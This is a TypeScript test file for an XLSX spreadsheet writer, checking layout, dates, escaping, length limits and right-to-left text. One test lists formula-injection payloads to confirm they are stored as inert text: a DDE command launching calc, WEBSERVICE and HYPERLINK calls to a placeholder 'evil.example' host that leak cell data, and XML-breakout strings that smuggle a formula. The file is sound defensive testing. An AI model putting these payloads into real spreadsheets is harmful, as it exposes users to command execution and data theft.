import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import { expect, test } from "vitest";
import { type XlsxCell, xlsxOf } from "~/lib/xlsx";

const columns = [
  { name: "one", width: 10 },
  { name: "two", width: 20 },
];

async function* each(batches: readonly XlsxCell[][][]) {
  yield* batches;
}

/** Los Angeles in winter. */
const inWinter = (moment: Date) => moment.getTime() - 8 * 3_600_000;

/** The parts of a written file, and the rows that its pieces claim. */
async function write(batches: readonly XlsxCell[][][]) {
  const pieces: Uint8Array[] = [];
  let rows = 0;
  for await (const piece of xlsxOf(
    { name: "A & B", columns, wallClockAsUtc: inWinter },
    each(batches),
  )) {
    pieces.push(piece.bytes);
    rows += piece.rows;
  }
  const parts = unzipSync(new Uint8Array(Buffer.concat(pieces)));
  const texts = Object.fromEntries(
    Object.entries(parts).map(([name, bytes]) => [name, strFromU8(bytes)]),
  );
  return { texts, sheet: texts["xl/worksheets/sheet1.xml"] ?? "", rows };
}

const entities: Record<string, string> = { lt: "<", gt: ">", amp: "&", quot: '"', apos: "'" };
/** What a spreadsheet shows of an inline text. */
const shown = (xml: string) =>
  xml
    .replace(/&(\w+);/g, (_, name: string) => entities[name] ?? "?")
    .replace(/_x([0-9A-F]{4})_/gi, (_, code: string) =>
      String.fromCharCode(Number.parseInt(code, 16)),
    );

/** The texts of the cells of a place's column, the header left out. */
const textsOf = (sheet: string) =>
  [...sheet.matchAll(/<c r="A(\d+)"[^>]*t="inlineStr"><is><t xml:space="preserve">([^<]*)<\/t>/g)]
    .slice(1)
    .map(([, , text = ""]) => shown(text));

test("a sheet has its frozen header, widths, cells by kind, and filters over all of it", async () => {
  const moment = new Date("2026-02-01T01:00:00Z");
  const { texts, sheet, rows } = await write([
    [["Zoë", 1.5]],
    [],
    [
      [null, true],
      [moment, ""],
    ],
  ]);
  expect(rows).toBe(3);
  expect(Object.keys(texts).sort()).toEqual([
    "[Content_Types].xml",
    "_rels/.rels",
    "xl/_rels/workbook.xml.rels",
    "xl/styles.xml",
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
  ]);
  expect(texts["xl/workbook.xml"]).toContain('name="A &amp; B"');
  expect(sheet).toContain(
    '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
  );
  expect(sheet).toContain('<col min="2" max="2" width="20" customWidth="1"/>');
  expect(sheet).toContain('<c r="B2"><v>1.5</v></c>');
  expect(sheet).toContain('<row r="3"><c r="B3" t="b"><v>1</v></c></row>');
  // January 31, 2026, 17:00 at the festival: 46053 days and seventeen hours.
  expect(sheet).toMatch(/<row r="4"><c r="A4" s="2"><v>46053\.7083333\d*<\/v><\/c><\/row>/);
  expect(sheet).toContain('<autoFilter ref="A1:B4"/></worksheet>');
});

test("an empty list is a sheet of its header alone", async () => {
  const { sheet, rows } = await write([]);
  expect(rows).toBe(0);
  expect(sheet).toContain('<autoFilter ref="A1:B1"/>');
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  " =1",
  "\u00a0@x",
  "\ufeff=1",
  "\uff1d1",
  "\uff0b1",
  "\uff0d1",
  "\uff20x",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '</t></is></c><c r="A9"><f>1+1</f></c>',
  '"/><f>1+1</f>',
  "_x003D_1+1",
])("the text %j is no formula and stays as it is", async (text) => {
  const { sheet } = await write([[[text, null]]]);
  expect(sheet).not.toMatch(/<f[ >/]/);
  expect(textsOf(sheet)).toEqual([text.replace(/\r\n?/g, "\n")]);
  if (/^[\s\u00a0\ufeff]*[=+@-]/.test(text)) {
    expect(sheet, "stays text when its cell is edited").toContain('<c r="A2" s="3" t="inlineStr">');
  }
});

test("any text makes a sheet that can be read again", async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.string({ unit: "binary", minLength: 1 }), { maxLength: 8 }),
      async (texts) => {
        const { sheet } = await write([texts.map((text) => [text, null])]);
        const readBack = texts.map((text) =>
          text
            .replace(/\r\n?/g, "\n")
            .replace(/[^\t\n\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, ""),
        );
        expect(textsOf(sheet)).toEqual(readBack);
      },
    ),
  );
});

test("a text longer than a cell is cut, and a half character with it", async () => {
  const { sheet } = await write([[[`${"a".repeat(32_766)}💛`, null]]]);
  expect(textsOf(sheet)[0]).toHaveLength(32_766);
});

test("text from right to left has its reading order, all other text none", async () => {
  const { texts, sheet } = await write([
    [
      ["ليلة في بيروت!", "=שלום"],
      ["東京の夜!", "Night of שלום"],
    ],
  ]);
  const looks = texts["xl/styles.xml"]
    ?.match(/<cellXfs.*<\/cellXfs>/)?.[0]
    .match(/<xf .*?(?:(?<!<alignment [^>]*)\/>|<\/xf>)/g);
  const lookAt = (place: string) =>
    looks?.[Number(new RegExp(`<c r="${place}" s="(\\d+)"`).exec(sheet)?.[1] ?? 0)];
  expect(lookAt("A2")).toContain('readingOrder="2"');
  expect(lookAt("B2")).toContain('readingOrder="2"');
  expect(lookAt("B2")).toContain('quotePrefix="1"');
  expect(sheet).toContain('<c r="A3" t="inlineStr">');
  expect(sheet).toContain('<c r="B3" t="inlineStr">');
});
